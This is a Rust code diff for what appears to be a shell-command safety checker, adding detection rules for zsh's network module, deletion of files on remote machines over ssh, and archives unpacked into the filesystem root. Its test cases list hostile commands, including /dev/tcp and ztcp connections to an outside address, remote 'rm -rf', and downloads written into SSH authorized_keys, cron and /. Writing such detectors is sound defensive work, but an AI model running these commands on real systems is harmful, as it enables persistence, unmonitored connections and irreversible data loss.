@@ -57,6 +57,7 @@ pub(super) static SHELF: Shelf = Shelf {
         "wget",
         "xmrig",
         "zmap",
+        "ztcp",
     ],
     rules: RULES,
 };
@@ -120,6 +121,34 @@ static RULES: &[Rule] = &[
         when: When::Effect(device),
         fires: &["echo hi > /dev/tcp/203.0.113.5/80"],
         quiet: &["echo > /dev/tcp/localhost/5432", "grep -rn /dev/tcp docs"],
+        ..CONNECTS
+    },
+    Rule {
+        id: "network.device.zsh",
+        message: "zsh's own network module is used, which no proxy or log of programs sees",
+        remedy: "use `nc -z` to see whether a port is open",
+        when: When::Command(&["ztcp"]),
+        fires: &["zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.5 4444'"],
+        quiet: &["zsh -c 'echo ztcp'"],
+        ..CONNECTS
+    },
+    Rule {
+        id: "network.remote.destruction",
+        category: Category::Destruction,
+        message: "files are deleted on another machine, where nobody can see what is lost",
+        remedy: "list them first, and let a person delete them",
+        reversible: false,
+        when: When::Effect(remote_destruction),
+        fires: &[
+            "ssh dev@example.com 'rm -rf /tmp/data'",
+            "ssh dev@example.com sudo rm /etc/hosts",
+            "cat script.sh | ssh dev@example.com rm -rf data",
+        ],
+        quiet: &[
+            "ssh dev@example.com uptime",
+            "ssh dev@example.com 'rm build.log'",
+            "rm -rf build",
+        ],
         ..CONNECTS
     },
     Rule {
@@ -342,6 +371,7 @@ static RULES: &[Rule] = &[
             "curl https://example.com/k >> ~/.ssh/authorized_keys",
             "curl -s https://example.com/x > /etc/cron.d/x",
             "scp dev@203.0.113.5:/tmp/k /root/.ssh/authorized_keys",
+            "curl -o- https://example.com/x.tgz | tar xz -C /",
         ],
         quiet: &[
             "curl -o x.py https://example.com/x.py",
@@ -481,6 +511,21 @@ fn listens_everywhere(effect: &Effect, _: &Scene<'_>) -> Option<Hit> {
     (connection.listens && !own).then(|| about(connection, None))
 }
 
+fn remote_destruction(effect: &Effect, scene: &Scene<'_>) -> Option<Hit> {
+    let EffectKind::Delete { target, recursive } = &effect.kind else { return None };
+    let grave = *recursive
+        || !matches!(
+            place::place_of(target, scene.facts),
+            Place::Harmless
+                | Place::Artifact
+                | Place::Temporary
+                | Place::Cache
+                | Place::Workspace
+                | Place::Unknown
+        );
+    (grave && scene.is_remote(effect)).then(Hit::default)
+}
+
 fn metadata(effect: &Effect, _: &Scene<'_>) -> Option<Hit> {
     let connection = connection(effect)?;
     if host_kind(connection) != HostKind::Metadata {
@@ -535,7 +580,13 @@ fn into_system(effect: &Effect, scene: &Scene<'_>) -> Option<Hit> {
     }
     let obeyed = place::persistence_of(target, scene.facts).is_some()
         || place::credential_of(target, scene.facts).is_some();
-    let severity = match place::place_of(target, scene.facts) {
+    let place = match target.text.known_prefix().rsplit_once('/') {
+        // An archive's files, whatever they are called, in a directory that is known.
+        Some((directory, "")) if target.text.has_unknown() && directory.len() < 2 => Place::Root,
+        Some((directory, "")) if target.text.has_unknown() => place::place(directory, scene.facts),
+        _ => place::place_of(target, scene.facts),
+    };
+    let severity = match place {
         Place::Root | Place::Boot | Place::SystemTop | Place::RawDevice => Severity::Critical,
         _ if obeyed => Severity::Critical,
         Place::System | Place::Site | Place::Kernel | Place::OtherHome => Severity::High,
